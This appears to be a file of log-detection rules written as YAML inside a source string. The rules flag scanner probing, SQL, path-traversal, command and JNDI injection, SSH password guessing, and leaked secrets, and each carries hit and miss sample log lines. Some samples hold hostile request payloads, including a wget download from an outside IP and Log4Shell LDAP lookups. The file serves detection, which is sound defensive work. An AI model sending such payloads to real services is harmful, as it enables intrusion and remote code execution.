      # Probing: asking for files and tools that the service never had

      - id: probing-path
        title: Somebody asked for a file that scanners look for
        severity: P3
        status: stable
        on: path
        pattern: >-
          (?xi) /\.(?:env|git/|svn/|aws/|ssh/|DS_Store) | /wp-(?:login|config|admin|includes) | /xmlrpc\.php |
          /php(?:myadmin|info|unit) | /actuator/(?:env|heapdump|gateway) | /cgi-bin/ | /server-status | /id_rsa |
          /vendor/phpunit
        message: 'scanned for {path}'
        tags: [security, probing]
        falsepositives: ['a service that is made with WordPress, or that shows /actuator on purpose']
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /.env HTTP/1.1" 404 12 "-" "curl/8"'
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /wp-login.php HTTP/1.1" 404 12 "-" "-"'
            - '2026-11-23 06:50:48,123 INFO [access] [a1] request started method=GET path=/.git/config client=10.0.0.7:4711'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /environment HTTP/1.1" 200 12 "-" "curl/8"'

      - id: probing
        title: A scanner is at work
        severity: P2
        status: stable
        correlation:
          type: value_count
          rules: [probing-path]
          timespan: 10m
          condition: {field: path, gte: 3}
        message: '{count} different paths that scanners look for were asked for'
        tags: [security, probing]
        samples:
          hit:
            - |
              10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /.env HTTP/1.1" 404 12 "-" "curl/8"
              10.0.0.7 - - [23/Nov/2026:06:47:56 +0000] "GET /wp-login.php HTTP/1.1" 404 12 "-" "curl/8"
              10.0.0.7 - - [23/Nov/2026:06:47:57 +0000] "GET /.git/config HTTP/1.1" 404 12 "-" "curl/8"
          miss:
            - |
              10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /.env HTTP/1.1" 404 12 "-" "curl/8"
              10.0.0.7 - - [23/Nov/2026:06:47:56 +0000] "GET /.env HTTP/1.1" 404 12 "-" "curl/8"
              10.0.0.7 - - [23/Nov/2026:06:47:57 +0000] "GET / HTTP/1.1" 200 12 "-" "curl/8"

      - id: probing-success
        title: A file that scanners look for was served
        description: Look at once what was in it; whatever secret it held is known now.
        severity: P1
        status: stable
        on: path
        pattern: '/\.(?:env|git/(?:config|HEAD|index)|aws/credentials|ssh/)|/id_rsa|/actuator/(?:env|heapdump)|\.sql\.gz'
        where: 'status in (200, 206)'
        message: '{path} was served'
        group-by: [path]
        tags: [security, probing, leak]
        falsepositives: ['a page for everything that answers 200, as single-page applications have']
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /.env HTTP/1.1" 200 812 "-" "curl/8"'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /.env HTTP/1.1" 404 12 "-" "curl/8"'

      # Attempts to inject something, seen in what was asked for

      - id: sql-injection-attempt
        title: SQL in a request
        severity: P2
        status: stable
        on: path
        pattern: >-
          (?xi) union(?:\s|\+|%20|/\*\*/)+(?:all(?:\s|\+|%20)+)?select\b |
          (?:'|%27)(?:\s|\+|%20)*or(?:\s|\+|%20)+(?:'|%27)?1(?:'|%27)?(?:=|%3D) |
          information_schema\. | (?:pg_)?sleep\(\d | benchmark\(\d | waitfor(?:\s|\+|%20)+delay
        message: 'SQL in a request: {path}'
        tags: [security, injection]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /q?id=1+UNION+ALL+SELECT+1,2 HTTP/1.1" 400 12 "-" "-"'
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /q?id=1%27%20OR%20%271%27=%271 HTTP/1.1" 200 12 "-" "-"'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /unions/select?id=7 HTTP/1.1" 200 12 "-" "-"'

      - id: path-traversal-attempt
        title: A request that climbs out of its folder
        severity: P2
        status: stable
        on: path
        pattern: '(?i)(?:\.\./|\.\.%2f|%2e%2e/|%2e%2e%2f|%252e%252e|\.\.%5c){2}|/etc/(?:passwd|shadow)\b|win\.ini\b'
        message: 'path traversal: {path}'
        tags: [security, injection]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /files/../../../../etc/hosts HTTP/1.1" 400 12 "-" "-"'
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /get?f=%2e%2e%2f%2e%2e%2fkeys HTTP/1.1" 404 12 "-" "-"'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /docs/../index.html HTTP/1.1" 200 12 "-" "-"'

      - id: code-injection-attempt
        title: A script, a template expression or a shell command in a request
        severity: P2
        status: stable
        on: path
        pattern: >-
          (?xi) (?:<|%3c)script\b | javascript(?::|%3a) |
          (?:\{\{|%7b%7b)[^}]{0,40}(?:\d(?:\*|%2a)\d|config\b|__class__|request\.) | __(?:subclasses|globals|import)__ |
          (?:;|%3b|\||%7c|%26|`|%60|\$\(|%24%28)(?:\s|\+|%20)*(?:wget|curl|cat|chmod|whoami|uname)(?:\s|\+|%20|%60|`) |
          /bin/(?:ba)?sh\b | \$\{IFS\}
        message: 'code in a request: {path}'
        tags: [security, injection]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /q?s=%3Cscript%3Ealert(1) HTTP/1.1" 200 12 "-" "-"'
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /hello?name={{7*7}} HTTP/1.1" 200 12 "-" "-"'
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /ping?h=a;wget+http://10.9.9.9/x HTTP/1.1" 200 12 "-" "-"'
          miss:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /static/script.js HTTP/1.1" 200 12 "-" "-"'
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /tools/curl?a=1&b=2 HTTP/1.1" 200 12 "-" "-"'

      - id: jndi-injection-attempt
        title: A JNDI lookup in what was logged
        description: Log4Shell (CVE-2021-44228). Harmless to services without an old Log4j 2; find out which have one.
        severity: P2
        status: stable
        on: line
        pattern: '(?i)\$\{jndi:(?:ldaps?|rmi|dns|iiop|corba|nds|http)|\$\{(?:\$\{)?(?:lower|upper):j|\$\{::-j\}'
        tags: [security, injection, java]
        samples:
          hit:
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 200 12 "-" "${jndi:ldap://10.9.9.9/a}"'
            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 200 12 "-" "${${lower:j}ndi:rmi://x/a}"'
          miss:
            - '2026-11-23 06:50:48,123 INFO [app] [-] the name is read from JNDI: java:comp/env'

      # Passwords

      - id: ssh-login-failed
        title: A failed login by SSH
        severity: P3
        status: stable
        pattern: 'Failed (?:password|publickey) for (?:invalid user )?(?<user>\S+) from (?<source>\S+) port \d+'
        message: '{user} failed to log in from {source}'
        group-by: [source]
        tags: [security, login, ssh]
        samples:
          hit:
            - 'Nov 23 06:47:54 host sshd[123]: Failed password for root from 203.0.113.9 port 4711 ssh2'
          miss:
            - 'Nov 23 06:47:54 host sshd[123]: Accepted publickey for deploy from 203.0.113.9 port 4711 ssh2'

      - id: ssh-guessing
        title: Somebody guesses SSH passwords
        severity: P2
        status: stable
        correlation:
          type: event_count
          rules: [ssh-login-failed]
          group-by: [source]
          timespan: 5m
          condition: {gte: 5}
        message: '{count} failed logins from {source}'
        tags: [security, login, ssh]
        samples:
          hit:
            - |
              Nov 23 06:47:50 host sshd[123]: Failed password for root from 203.0.113.9 port 4711 ssh2
              Nov 23 06:47:51 host sshd[123]: Failed password for root from 203.0.113.9 port 4712 ssh2
              Nov 23 06:47:52 host sshd[123]: Failed password for root from 203.0.113.9 port 4713 ssh2
              Nov 23 06:47:53 host sshd[123]: Failed password for root from 203.0.113.9 port 4714 ssh2
              Nov 23 06:47:54 host sshd[123]: Failed password for root from 203.0.113.9 port 4715 ssh2
          miss:
            - |
              Nov 23 06:47:50 host sshd[123]: Failed password for ana from 203.0.113.9 port 4711 ssh2
              Nov 23 06:47:51 host sshd[123]: Failed password for ben from 203.0.113.8 port 4712 ssh2

      - id: ssh-unknown-user
        title: A login by SSH with a name that does not exist
        severity: P3
        status: stable
        pattern: '(?:Failed password for invalid|^Invalid) user (?<user>\S*) from (?<source>\S+) port \d+'
        message: 'somebody tried to log in as {user}'
        tags: [security, login, ssh]
        samples:
          hit:
            - 'Nov 23 06:47:54 host sshd[123]: Failed password for invalid user admin from 203.0.113.9 port 4711 ssh2'
          miss:
            - 'Nov 23 06:47:54 host sshd[123]: Failed password for root from 203.0.113.9 port 4711 ssh2'

      - id: ssh-login
        title: A login by SSH with a password
        severity: P3
        status: stable
        pattern: 'Accepted password for (?<user>\S+) from (?<source>\S+) port \d+'
        message: '{user} logged in from {source}'
        group-by: [source]
        tags: [security, login, ssh]
        samples:
          hit:
            - 'Nov 23 06:47:54 host sshd[123]: Accepted password for ana from 203.0.113.9 port 4711 ssh2'
          miss:
            - 'Nov 23 06:47:54 host sshd[123]: Accepted publickey for deploy from 203.0.113.9 port 4711 ssh2'

      - id: ssh-guessed
        title: Names were guessed by SSH, then a login worked
        description: The same source tried names that do not exist and then logged in with a password.
        severity: P1
        status: stable
        correlation:
          type: temporal_ordered
          rules: [ssh-unknown-user, ssh-login]
          group-by: [source]
          timespan: 30m
        generate: true
        message: '{source} guessed names, then logged in'
        tags: [security, login, ssh]
        falsepositives: ['somebody who mistyped their own name']
        samples:
          hit:
            - |
              Nov 23 06:47:52 host sshd[123]: Failed password for invalid user admin from 203.0.113.9 port 4711 ssh2
              Nov 23 06:48:54 host sshd[124]: Accepted password for ana from 203.0.113.9 port 4713 ssh2
          miss:
            - |
              Nov 23 06:47:52 host sshd[123]: Failed password for invalid user admin from 203.0.113.9 port 4711 ssh2
              Nov 23 06:48:54 host sshd[124]: Accepted password for ana from 203.0.113.8 port 4713 ssh2

      - id: login-failed
        title: A failed login
        severity: P3
        status: stable
        pattern: >-
          (?i)\b(?:log-?in|sign-?in|authentication) (?:has )?fail(?:ed|ure)\b|\b(?:invalid|wrong|bad)
          (?:credentials|username or password|password)\b|password authentication failed for user
        tags: [security, login]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 WARNING [auth] [8165e189] login failed user=ana client=10.0.0.7'
            - 'FATAL:  password authentication failed for user "app"'
          miss:
            - '2026-11-23 06:50:48,123 INFO [auth] [8165e189] login succeeded user=ana client=10.0.0.7'

      - id: login-guessing
        title: Many logins fail
        description: Somebody tries passwords, or nobody can log in any more.
        severity: P2
        status: stable
        correlation:
          type: event_count
          rules: [login-failed]
          timespan: 1m
          condition: {gte: 10}
        message: '{count} logins failed within a minute'
        tags: [security, login]
        samples:
          hit:
            - |
              2026-11-23 06:50:48,101 WARNING [auth] [a1] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:48,201 WARNING [auth] [a2] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:48,301 WARNING [auth] [a3] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:48,401 WARNING [auth] [a4] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:48,501 WARNING [auth] [a5] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:48,601 WARNING [auth] [a6] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:48,701 WARNING [auth] [a7] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:48,801 WARNING [auth] [a8] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:48,901 WARNING [auth] [a9] login failed user=ana client=10.0.0.7
              2026-11-23 06:50:49,101 WARNING [auth] [b1] login failed user=ana client=10.0.0.7
          miss:
            - |
              2026-11-23 06:50:48,101 WARNING [auth] [a1] login failed user=ana client=10.0.0.7
              2026-11-23 06:58:48,201 WARNING [auth] [a2] login failed user=ben client=10.0.0.8

      # Secrets. What matched is never printed.

      - id: secret-api-key
        title: A key of a known service in the log
        description: >-
          AWS, Google, GitHub, GitLab, Slack, Stripe, npm, PyPI, OpenAI, SendGrid. Whoever reads the log can use it. Take it
          out of use, then stop logging it.
        severity: P1
        status: stable
        on: line
        pattern: >-
          (?x) \b(?:AKIA|ASIA)[0-9A-Z]{16}\b | \bAIza[0-9A-Za-z_-]{35}(?![0-9A-Za-z_-]) |
          \bgh[pousr]_[0-9A-Za-z]{36}\b | \bgithub_pat_[0-9A-Za-z_]{60,} | \bglpat-[0-9A-Za-z_-]{20} |
          \bxox[abeprs]-[0-9A-Za-z-]{10,} | \b[rs]k_live_[0-9A-Za-z]{20,} | \bnpm_[0-9A-Za-z]{36}\b |
          \bpypi-AgEI[0-9A-Za-z_-]{50,} | \bsk-proj-[0-9A-Za-z_-]{40,} |
          \bSG\.[0-9A-Za-z_-]{22}\.[0-9A-Za-z_-]{43}
        secret: true
        tags: [security, secret, aws, google]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 DEBUG [s3] [-] signing with AKIAIOSFODNN7EXAMPLE'
            - '2026-11-23 06:50:48,123 DEBUG [ci] [-] cloning with ghp_0123456789abcdefghijABCDEFGHIJ012345'
            - '2026-11-23 06:50:48,123 DEBUG [chat] [-] posting with xoxb-0123456789-abcdefghij'
          miss:
            - '2026-11-23 06:50:48,123 DEBUG [s3] [-] signing with AKIA****'
            - '2026-11-23 06:50:48,123 DEBUG [s3] [-] part XAKIAIOSFODNN7EXAMPLEXX stored'
            - '2026-11-23 06:50:48,123 DEBUG [ci] [-] cloning with ghp_***'

      - id: secret-private-key
        title: A private key in the log
        severity: P1
        status: stable
        pattern: '-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?-----'
        secret: true
        tags: [security, secret]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 DEBUG [tls] [-] key=-----BEGIN RSA PRIVATE KEY-----'
          miss:
            - '2026-11-23 06:50:48,123 DEBUG [tls] [-] key=-----BEGIN PUBLIC KEY-----'

      - id: secret-credentials
        title: Credentials of a request in the log
        description: A JSON web token or an Authorization header. Until it expires it is as good as a password.
        severity: P2
        status: stable
        on: line
        pattern: >-
          (?xi) \beyJ[0-9a-z_-]{10,}\.eyJ[0-9a-z_-]{10,}\.[0-9a-z_-]{10,} |
          \bauthorization["']? \s*[:=]\s* ["']? (?:bearer|basic|token) \s+ (?!\*|<|\[|x{4}|redacted) [0-9a-z._~+/=-]{8,}
        secret: true
        tags: [security, secret]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 DEBUG [client] [-] sent Authorization: Bearer 0a1b2c3d4e5f60718293'
            - >-
              2026-11-23 06:50:48,123 DEBUG [auth] [-]
              token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ0ZXN0In0.c2lnbmF0dXJlLWZvci10ZXN0
          miss:
            - '2026-11-23 06:50:48,123 DEBUG [client] [-] sent Authorization: Bearer ****************'
            - '2026-11-23 06:50:48,123 DEBUG [auth] [-] token eyJhbGciOiJIUzI1NiJ9 has one part'

      - id: secret-password
        title: A password in the log
        severity: P2
        status: stable
        on: line
        pattern: >-
          (?xi) \b(?:password|passwd|pwd|secret[_-]?key|client[_-]secret|api[_-]?key) ["']? \s*[:=]\s* ["']?
          (?!\*|<|\[|\{|x{4}|redacted|null\b|none\b|true\b|false\b|required|invalid|missing) [^\s"',;&*]{6,}
        secret: true
        tags: [security, secret]
        falsepositives: ['code and configuration names in tracebacks (password=settings.password)']
        samples:
          hit:
            - '2026-11-23 06:50:48,123 DEBUG [users] [-] new user name=ana password=correcthorse'
            - '{"ts": "2026-11-23T06:47:55.003Z", "level": "debug", "msg": "new user", "password": "correcthorse"}'
          miss:
            - '2026-11-23 06:50:48,123 DEBUG [users] [-] new user name=ana password=********'
            - '2026-11-23 06:50:48,123 INFO [users] [-] password: required'

      - id: secret-connection-string
        title: An address with a password in the log
        severity: P1
        status: stable
        pattern: >-
          (?xi) \b(?:postgres(?:ql)?|mysql|mariadb|mongodb|rediss?|amqps?|https?|ftp)(?:\+\w+)?:// [^\s:/@]{0,64} :
          (?!\*|<|\[|\$\{|xxx|redacted) [^\s:/@]{3,128} @ [\w.-]+
        secret: true
        tags: [security, secret, database]
        samples:
          hit:
            - '2026-11-23 06:50:48,123 DEBUG [db] [-] connecting to postgresql+asyncpg://app:hunter22@db.internal:5432/app'
          miss:
            - '2026-11-23 06:50:48,123 DEBUG [db] [-] connecting to postgresql+asyncpg://app:***@db.internal:5432/app'
            - '2026-11-23 06:50:48,123 DEBUG [db] [-] connecting to https://db.internal:5432/users@example.org'
    """##
}
